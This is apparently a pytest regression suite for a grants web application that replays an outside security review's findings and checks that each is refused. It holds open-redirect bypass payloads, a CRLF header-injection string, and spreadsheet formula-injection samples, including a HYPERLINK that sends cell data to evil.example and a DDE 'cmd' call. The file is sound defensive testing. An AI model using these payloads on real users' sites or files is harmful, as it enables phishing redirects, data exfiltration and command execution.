"""Issue 14 ("Security"): the findings of the outside review (../shared/findings/security.md), each
reproduced as the attack it was and shown to be refused now. Each test names its OWASP ASVS 5.0
requirement."""

from __future__ import annotations

import csv
import io
import re
import shutil
from urllib.parse import quote, urlsplit

import pytest
import sqlalchemy as sa
from conftest import FreshContextClient, _base_config, link_in, login, post_form, read_outbox

from grants.extensions import db

DEMO_PASSWORD = "demo-grants-2026"
PASSWORD = "correct-horse-42"


# --- 1. Request bodies are type-checked before any use ----------------------------------------------


@pytest.mark.parametrize("database_url", ["postgresql"], indirect=True)
def test_a_list_valued_email_does_not_bypass_the_per_account_login_lock(client, users):
    """ASVS V6.3.1 (brute force protection), V2.2.1 (input validated before use): `email` sent as a
    JSON list used to get a fresh limiter key on every attempt while logging in as the first
    address. Now the list is refused (422, field named) before the limiter or the form sees it, and
    the account stays locked after five failures, list or not."""
    users("victim@example.kz")
    for i in range(5):
        wrong = client.post("/api/v1/auth/token", json={"email": "victim@example.kz", "password": f"wrong-{i}"})
        assert wrong.status_code == 401
    assert (
        client.post("/api/v1/auth/token", json={"email": "victim@example.kz", "password": "wrong"}).status_code == 429
    )
    for i in range(8):
        listed = client.post("/api/v1/auth/token", json={"email": ["victim@example.kz", f"x{i}@example.kz"],
                                                         "password": PASSWORD}, headers={"Accept-Language": "en"})  # fmt: skip
        assert listed.status_code == 422, listed.json
        assert listed.json["error"]["fields"] == {"email": ["Must be text."]}
        assert "token" not in listed.json
    # The right password in plain form is still locked out.
    assert (
        client.post("/api/v1/auth/token", json={"email": "victim@example.kz", "password": PASSWORD}).status_code == 429
    )


def _allowed_kinds(schema: dict) -> set[str]:
    if "anyOf" in schema:
        return set().union(*(_allowed_kinds(branch) for branch in schema["anyOf"]))
    kinds = {schema["type"]} if "type" in schema else {"string", "integer", "number", "boolean", "array", "object"}
    if "number" in kinds:
        kinds.add("integer")  # a whole number is a number in JSON
    return kinds


WRONG_VALUES = [  # (its JSON kind, the value)
    ("array", ["text"]),
    ("object", {"a": 1}),
    ("string", "not-a-number"),
    ("number", 1.5),
    ("boolean", True),
    ("integer", 7),
]


@pytest.fixture
def every_role_client(make_app, database_url):
    """A client of an app without rate limits, and a token of a person holding every role."""
    app = make_app(database_url, RATELIMIT_ENABLED=False)
    with app.app_context():
        from grants.accounts import services
        from grants.accounts.models import Role

        user = services.create_user(email="all@example.kz", password=PASSWORD, name="All", roles=set(Role),
                                    verified=True)  # fmt: skip
        token = services.issue_api_token(user, second_factor=True)[0]
        db.session.commit()
        yield app.test_client(), {"Authorization": f"Bearer {token}", "Accept-Language": "en"}


@pytest.mark.parametrize("database_url", ["postgresql"], indirect=True)
def test_every_request_body_of_the_openapi_document_is_type_checked_before_use(every_role_client):
    """ASVS V2.2.1 (input validated against its expected structure and types before use), V4.1
    (the API does what its document says): for every operation of /api/v1/openapi.json that takes a
    body, and every property of that body, a value of a kind the document does not allow (a list
    where text belongs, text where a number belongs, an object where a list belongs, …) is refused
    with 422 naming that field, before any service runs."""
    client, headers = every_role_client
    document = client.get("/api/v1/openapi.json").json
    tried, problems = 0, []
    for path, operations in document["paths"].items():
        url = re.sub(r"\{[^}]+\}", "1", path)
        for method, operation in operations.items():
            content = operation.get("requestBody", {}).get("content", {})
            media = "application/json" if "application/json" in content else "multipart/form-data"
            if not content:
                continue
            if "multipart/form-data" in content:  # a field sent twice where one value belongs
                for name, prop in content["multipart/form-data"]["schema"].get("properties", {}).items():
                    if prop.get("format") == "binary" or "array" in _allowed_kinds(prop):
                        continue
                    tried += 1
                    response = client.open(
                        url,
                        method=method.upper(),
                        data={name: ["a", "b"]},
                        headers=headers,
                        content_type="multipart/form-data",
                    )
                    if response.status_code != 422 or name not in response.json["error"]["fields"]:
                        problems.append(f"{method.upper()} {url} {name} twice → {response.status_code} {response.json}")
            properties = content[media]["schema"].get("properties", {})
            for name, prop in properties.items():
                if prop.get("format") == "binary":
                    continue
                allowed = _allowed_kinds(prop)
                candidates = WRONG_VALUES if media == "application/json" else [("string", "not-a-number")]
                wrong = [value for kind, value in candidates if kind not in allowed]
                if media == "multipart/form-data" and ("string" in allowed or not wrong):
                    continue  # a form sends text: only a text where a number or a yes/no belongs is wrong
                for value in wrong:
                    tried += 1
                    where = f"{method.upper()} {url} {name}={value!r}"
                    if media == "application/json":
                        response = client.open(url, method=method.upper(), json={name: value}, headers=headers)
                    else:
                        response = client.open(
                            url,
                            method=method.upper(),
                            data={name: value},
                            headers=headers,
                            content_type="multipart/form-data",
                        )
                    if response.status_code != 422 or name not in (response.json or {}).get("error", {}).get(
                        "fields", {}
                    ):
                        problems.append(f"{where} → {response.status_code} {(response.json or {}).get('error')}")
    assert tried >= 150, tried
    assert not problems, "\n".join(problems)


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_a_form_read_from_json_refuses_a_list_where_one_value_belongs(app):
    """ASVS V2.2.1, second line behind the schemas: the form built from a JSON body used to take
    the first item of a list (the login bypass); now it refuses lists and objects by field."""
    from grants.accounts.forms import LoginForm
    from grants.core.errors import ValidationFailed
    from grants.core.forms import form_from_json

    with app.test_request_context(headers={"Accept-Language": "en"}):
        for payload in ({"email": ["a@example.kz", "b@example.kz"], "password": "x"}, {"email": {"a": 1}}):
            with pytest.raises(ValidationFailed) as refused:
                form_from_json(LoginForm, payload)
            assert refused.value.fields == {"email": ["Must be text."]}
        assert form_from_json(LoginForm, {"email": "a@example.kz", "password": "x"}).email.data == "a@example.kz"


@pytest.mark.parametrize("database_url", ["postgresql"], indirect=True)
def test_an_organization_name_that_is_not_text_is_422_not_500(client, users, organization):
    """ASVS V2.2.1, V16.5.3 (no unhandled error): `{"settlement_name": [null]}` answered 500."""
    owner = users("owner@example.kz")
    org = organization(owner)
    db.session.commit()
    token = client.post("/api/v1/auth/token", json={"email": "owner@example.kz", "password": PASSWORD}).json["token"]
    auth = {"Authorization": f"Bearer {token}", "Accept-Language": "en"}
    for body in ({"settlement_name": [None]}, {"name": ["x"]}, {"name": {"ru": "x"}}):
        response = client.patch(f"/api/v1/organizations/{org.id}", json=body, headers=auth)
        assert response.status_code == 422 and set(response.json["error"]["fields"]) == set(body)


# --- 2. Open redirect ----------------------------------------------------------------------------------

OFFSITE = [
    "//evil.example", "///evil.example", "////evil.example", "/\t/evil.example", "/%09/evil.example",
    "/\n/evil.example", "/\r/evil.example", "/\\evil.example", "/\\/evil.example", "\\\\evil.example",
    "/%5Cevil.example", "/%5C/evil.example", "/%2F/evil.example", "/%2f%2fevil.example", "/%252F/evil.example",
    "/ /evil.example", "/%20/evil.example", "/\u3000/evil.example", "/\u2028/evil.example", "/\xa0/evil.example",
    "/%C2%A0/evil.example", "/%E3%80%80/evil.example", "/\x00/evil.example", "/\x0b/evil.example",
    "https://evil.example", "http:evil.example", "https:/evil.example", "javascript:alert(1)",
    "\t//evil.example", " //evil.example", "evil.example", "@evil.example", "/\x7f/evil.example",
    "/?a=\r\nSet-Cookie: x=1", "/\ufeff/evil.example", "/%25252F/evil.example", "/%C2%85/evil.example",
    "/%E2%80%A8/evil.example",
]  # fmt: skip
LOCAL = ["/calls", "/calls?q=жасыл дала", "/calls?q=%D0%B6%D0%B0%D1%81%D1%8B%D0%BB", "/applications/5/edit#budget",
         "/calls?next=//x", "/directory/%D0%90%D0%B0", "/a//b"]  # fmt: skip


def browser_target(location: str) -> tuple[str, str]:
    """(scheme, host) a browser goes to for this Location: it drops tabs and newlines, reads a
    backslash as a slash and trims spaces and control characters at the ends."""
    cleaned = re.sub(r"[\t\n\r]", "", location).replace("\\", "/").strip("\x00- ")
    parts = urlsplit(cleaned)
    return parts.scheme, parts.netloc


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_next_cannot_send_anyone_to_another_site_after_login_or_a_language_switch(client, users):
    """ASVS V3.7.2 (redirects only to allowed destinations): `next=/%09/evil.example` became
    `Location: //evil.example`. A table of known bypass payloads, on the unauthenticated language
    switch and after log-in: each lands on this site."""
    from grants.core.access import safe_next

    users("lead@example.kz")
    for payload in OFFSITE:
        assert safe_next(payload, "/home") == "/home", repr(payload)
        switched = client.get(f"/language/en?next={quote(payload, safe='')}")
        if switched.status_code == 400:  # a NUL byte or broken character: refused before any view
            continue
        assert switched.status_code == 302
        assert browser_target(switched.headers["Location"]) in {("", ""), ("http", "localhost")}, repr(payload)
    for payload in LOCAL:
        assert safe_next(payload, "/home") == payload
    for payload in ["/%09/evil.example", "/\\evil.example", "//evil.example", "/calls"]:
        client.post("/logout", data={})  # no session: harmless
        url = f"/login?next={quote(payload, safe='')}"
        response = post_form(client, url, {"email": "lead@example.kz", "password": PASSWORD}, form_url=url)
        assert response.status_code == 302
        location = response.headers["Location"]
        assert browser_target(location) in {("", ""), ("http", "localhost")}, (payload, location)
        if payload == "/calls":
            assert location.endswith("/calls")
        client.delete_cookie("grants_session")


# --- 3. CSV/XLSX formula injection, 6. no-store on private downloads ------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
            "\t=1+1", "\r=1+1", "  =1+1", "\uff1d1+1"]  # fmt: skip


@pytest.fixture(scope="module")
def demo(pg_database, demo_database, tmp_path_factory):
    """The demo round on PostgreSQL, with names and titles that a spreadsheet would run as formulas."""
    from grants import create_app
    from grants.applications.models import Application
    from grants.awards.models import Award

    folder = tmp_path_factory.mktemp("findings")
    app = create_app(_base_config(demo_database("postgresql", folder), folder) | {"RATELIMIT_ENABLED": False})
    app.test_client_class = FreshContextClient
    with app.app_context():
        award = db.session.execute(db.select(Award).where(Award.letters.any()).order_by(Award.id)).scalars().first()
        application = db.session.get(Application, award.application_id)
        application.title = FORMULAS[0]
        application.consortium.name = FORMULAS[3]
        application.consortium.lead.name = FORMULAS[1]
        db.session.commit()
        facts = {"call_id": application.call_id, "award_id": award.id, "app_id": application.id}
    yield app, facts
    with app.app_context():
        db.session.remove()
        db.engine.dispose()


def test_exports_write_formula_like_text_as_text(demo):
    """ASVS V1.2.10 (CSV and formula injection): organization names and titles starting with = + - @
    were written as they are, and in XLSX stored as live formulas, in managers' exports and the
    public results.csv. Now they start with an apostrophe and every XLSX cell is a value."""
    from openpyxl import load_workbook

    app, facts = demo
    client = app.test_client()
    public = client.get(f"/calls/{facts['call_id']}/results.csv")
    assert public.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(public.get_data(as_text=True).lstrip("\ufeff"))) for cell in row]
    assert "'" + FORMULAS[0] in cells and "'" + FORMULAS[1] in cells and "'" + FORMULAS[3] in cells
    assert not [c for c in cells if c.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))]
    login(client, "manager@demo.kz", DEMO_PASSWORD)
    for url in (f"/manage/calls/{facts['call_id']}/ranking.xlsx", f"/manage/calls/{facts['call_id']}/awards.xlsx"):
        response = client.get(url)
        assert response.status_code == 200, url
        sheet = load_workbook(io.BytesIO(response.data)).active
        values = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
        assert not [c.value for c in values if c.data_type == "f"], url
        texts = {c.value for c in values if isinstance(c.value, str)}
        assert texts & {"'" + FORMULAS[0], "'" + FORMULAS[3]}, url
        assert not [t for t in texts if t.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))], url
    ranking = client.get(f"/manage/calls/{facts['call_id']}/ranking.csv").get_data(as_text=True)
    cells = [cell for row in csv.reader(io.StringIO(ranking.lstrip("\ufeff"))) for cell in row]
    assert not [c for c in cells if c.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))]


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)  # (keeps the demo round on PostgreSQL)
def test_every_formula_start_is_neutralised_and_numbers_stay_numbers(app):
    """ASVS V1.2.10: the table of formula starts (also after leading spaces, and the full-width
    forms some spreadsheet programs accept) in both formats."""
    from openpyxl import load_workbook

    from grants.core.export import table_response

    with app.test_request_context():
        xlsx = table_response("x-test", ["name", "amount"], [[f, -5] for f in FORMULAS], "xlsx")
        plain = table_response("x-test", ["name", "amount"], [[f, -5] for f in FORMULAS], "csv")
    sheet = load_workbook(io.BytesIO(xlsx.data)).active
    rows = list(sheet.iter_rows(min_row=2))
    assert [row[0].value for row in rows] == ["'" + f for f in FORMULAS]
    assert {row[0].data_type for row in rows} == {"s"} and {row[1].value for row in rows} == {-5}
    read = list(csv.reader(io.StringIO(plain.get_data(as_text=True).lstrip("\ufeff"), newline="")))
    assert [row[0] for row in read[1:]] == ["'" + f for f in FORMULAS]


def test_api_answers_exports_and_private_pdfs_are_not_stored_by_caches(demo):
    """ASVS V14.3.2 (sensitive data not cached): API JSON, CSV/XLSX exports and the letter and
    application PDFs answer `Cache-Control: no-store`."""
    from grants.accounts.models import User
    from grants.accounts.services import issue_api_token

    app, facts = demo
    with app.app_context():
        manager = db.session.execute(db.select(User).filter_by(email="manager@demo.kz")).scalar_one()
        token = issue_api_token(manager, second_factor=True)[0]
        db.session.commit()
    client = app.test_client()
    auth = {"Authorization": f"Bearer {token}"}
    for url in ("/api/v1/me", f"/api/v1/awards/{facts['award_id']}", f"/api/v1/calls/{facts['call_id']}/ranking",
                "/api/v1/nothing-here"):  # fmt: skip
        response = client.get(url, headers=auth)
        assert "no-store" in response.headers.get("Cache-Control", ""), (url, response.status_code)
    login(client, "manager@demo.kz", DEMO_PASSWORD)
    for url in (f"/manage/calls/{facts['call_id']}/ranking.csv", f"/manage/calls/{facts['call_id']}/awards.xlsx",
                f"/awards/{facts['award_id']}/letter.pdf", f"/calls/{facts['call_id']}/results.csv"):  # fmt: skip
        response = client.get(url)
        assert response.status_code == 200, url
        assert "no-store" in response.headers["Cache-Control"], url


# --- 4. Registration does not tell whether an address has an account ------------------------------


@pytest.fixture
def site(make_app, sqlite_template, tmp_path, smtp_server):
    """site(taken) -> a copy of the system sending to the test SMTP server; in a taken one the
    address already has an account. (One at a time: the task queue runs in the last app made.)"""
    host, port, inbox = smtp_server

    def make(taken: bool):
        target = tmp_path / f"{'taken' if taken else 'fresh'}.sqlite3"
        shutil.copy(sqlite_template, target)
        app = make_app(f"sqlite:///{target}", MAIL_SERVER=host, MAIL_PORT=port)
        if taken:
            with app.app_context():
                from grants.accounts import services
                from grants.accounts.models import Role

                services.create_user(email="aigul@example.kz", password=PASSWORD, name="Айгүл",
                                     roles={Role.APPLICANT}, verified=True, locale="kk")  # fmt: skip
                db.session.commit()
        return app

    return make, inbox


def _scrubbed(html: str) -> str:
    return re.sub(r'name="csrf_token"[^>]*value="[^"]+"|value="[^"]+"[^>]*name="csrf_token"', "csrf", html)


def _register_twice(app) -> tuple:
    """The same registration by the web form and then by the API: every part of both answers."""
    form = {"name": "Someone", "email": "Aigul@Example.kz", "password": "жасыл-дала-2026", "confirm": "жасыл-дала-2026",
            "locale": "ru"}  # fmt: skip
    client = app.test_client()
    client.set_cookie("lang", "ru")
    web = post_form(client, "/register", form)
    api = client.post("/api/v1/users", json={k: form[k] for k in ("email", "password", "name", "locale")})
    return web.status_code, _scrubbed(web.get_data(as_text=True)), api.status_code, api.json


def test_registering_a_taken_address_answers_exactly_like_a_fresh_one_and_tells_the_owner(site):
    """ASVS V6.3.8 (no account enumeration): registration answered "email taken" (web 409, API
    `email_taken`). Now the web page and the API answer are the same for a taken and a fresh
    address, and the existing owner is emailed (in their language) that someone tried, with a link
    to reset the password, at most once a day. No second account is made."""
    make, inbox = site
    taken = make(taken=True)
    on_taken = _register_twice(taken)
    notices = inbox.wait_for(1)
    assert len(notices) == 1 and notices[0]["To"] == "aigul@example.kz"  # one notice a day, however many tries
    for notice in notices:
        text = notice.get_body(("plain",)).get_content()
        assert "/password/forgot" in text and "/verify-email/" not in text
        assert notice["Subject"] == "Біреу сіздің электрондық поштаңызбен тіркелмек болды"
    with taken.app_context():
        from grants.accounts.models import User

        assert db.session.execute(sa.select(sa.func.count(User.id))).scalar_one() == 1
    on_fresh = _register_twice(make(taken=False))
    assert on_taken == on_fresh
    assert on_taken[0] == 201 and on_taken[2] == 201 and on_taken[3]["email"] == "aigul@example.kz"
    # The fresh address got its verification link (and, at the second try, the notice).
    fresh = inbox.wait_for(3)[1:]
    assert len(inbox.messages) == 3
    assert any("/verify-email/" in m.get_body(("plain",)).get_content() for m in fresh)


# --- 5. A new password ends every older emailed link --------------------------------------------------


def _forgot(client, email: str) -> None:
    assert post_form(client, "/password/forgot", {"email": email}).status_code == 200


@pytest.mark.parametrize("database_url", ["postgresql"], indirect=True)
def test_a_reset_or_a_password_change_ends_every_older_reset_link(app, client, users):
    """ASVS V6.4 (password reset; a used factor's older secrets revoked): two reset links were
    asked for; after using the first, the second still set a password. Now any reset or change of
    the password ends every other open link of the person."""
    users("partner@example.kz")
    _forgot(client, "partner@example.kz")
    _forgot(client, "partner@example.kz")
    first, second = [link_in(m, "/password/reset/").replace("http://localhost", "") for m in read_outbox(app)[-2:]]
    used = post_form(client, first, {"password": "new-secret-pass-1", "confirm": "new-secret-pass-1"})
    assert used.status_code == 302
    client.set_cookie("lang", "en")
    late = post_form(client, second, {"password": "attacker-pass-22", "confirm": "attacker-pass-22"}, form_url="/login")
    assert late.status_code == 400 and "expired" in late.get_data(as_text=True)
    assert client.get(second).status_code == 400
    login(client, "partner@example.kz", "new-secret-pass-1")
    # A password change ends links asked for before it too.
    _forgot(client, "partner@example.kz")
    link = link_in(read_outbox(app)[-1], "/password/reset/").replace("http://localhost", "")
    changed = post_form(client, "/account/password", {"current": "new-secret-pass-1", "new": "new-secret-pass-2",
                                                       "confirm": "new-secret-pass-2"}, form_url="/account")  # fmt: skip
    assert changed.status_code == 302
    assert client.get(link).status_code == 400


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_a_password_reset_also_ends_an_open_verification_link(app, client):
    """ASVS V6.4: the email-verification link of an account is one of its open links too."""
    form = {"name": "N", "email": "n@example.kz", "password": "жасыл-дала-2026", "confirm": "жасыл-дала-2026",
            "locale": "en"}  # fmt: skip
    assert post_form(client, "/register", form).status_code == 201
    verify = link_in(read_outbox(app)[-1], "/verify-email/").replace("http://localhost", "")
    _forgot(client, "n@example.kz")
    reset = link_in(read_outbox(app)[-1], "/password/reset/").replace("http://localhost", "")
    assert (
        post_form(client, reset, {"password": "new-secret-pass-1", "confirm": "new-secret-pass-1"}).status_code == 302
    )
    client.set_cookie("lang", "en")
    refused = client.get(verify)
    assert refused.status_code == 400 and "expired" in refused.get_data(as_text=True)


# --- 7. HSTS behind a TLS-terminating proxy -----------------------------------------------------------


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_hsts_is_sent_behind_a_trusted_proxy_and_a_forged_header_does_nothing(make_app, database_url):
    """ASVS V3.4.1 (HSTS): behind a proxy that ends TLS the app only saw http and never sent HSTS.
    With GRANTS_PROXY_COUNT=1 the proxy's X-Forwarded-Proto counts; without it (the default) the
    same header from a client changes nothing."""
    forwarded = {"X-Forwarded-Proto": "https", "X-Forwarded-For": "203.0.113.9"}
    behind = make_app(database_url, PROXY_COUNT=1).test_client()
    assert behind.get("/", headers=forwarded).headers["Strict-Transport-Security"].startswith("max-age=")
    assert "Strict-Transport-Security" not in behind.get("/").headers
    direct = make_app(database_url).test_client()
    assert "Strict-Transport-Security" not in direct.get("/", headers=forwarded).headers


# --- 8. The OpenAPI document is valid; 405 names the allowed methods ----------------------------------


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_the_openapi_document_is_valid_openapi_3_0(client):
    """ASVS V4.1 (API documentation): the document had `exclusiveMinimum: 0`, invalid in OAS 3.0;
    openapi-spec-validator now accepts it as a whole."""
    from openapi_spec_validator import validate
    from openapi_spec_validator.versions import consts  # noqa: F401  (the validator's versions are installed)

    document = client.get("/api/v1/openapi.json").json
    assert document["openapi"].startswith("3.0")
    validate(document)


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_method_not_allowed_names_the_allowed_methods(client):
    """ASVS V4.1 / RFC 9110: 405 answers carried no `Allow` header, in the API and on pages."""
    api = client.delete("/api/v1/openapi.json")
    assert api.status_code == 405 and api.json["error"]["code"] == "method_not_allowed"
    assert set(api.headers["Allow"].replace(" ", "").split(",")) >= {"GET"}
    page = client.post("/calls")
    assert page.status_code == 405 and "GET" in page.headers["Allow"]
